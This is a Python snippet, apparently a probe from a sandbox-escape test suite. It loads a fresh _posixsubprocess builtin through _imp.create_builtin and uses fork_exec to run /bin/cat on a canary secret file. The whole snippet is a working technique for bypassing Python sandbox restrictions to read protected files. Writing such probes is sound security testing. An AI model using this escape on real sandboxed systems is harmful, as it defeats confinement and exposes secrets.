# READ: fresh _posixsubprocess (via _imp.create_builtin) runs /bin/cat on the canary; child inherits stdout
import sys
_imp = sys.modules['_imp']; os = sys.modules['os']
m = _imp.create_builtin(sys.modules['_posixsubprocess'].__spec__)
sys.stdout.flush()
er, ew = os.pipe()
pid = m.fork_exec([b'/bin/cat', b'/canary/secret.txt'], [b'/bin/cat'], True, (ew,), None, None,
                  -1, -1, -1, -1, -1, -1, er, ew, False, False, -1, None, None, None, -1, None, False)
os.close(ew); os.waitpid(pid, 0)
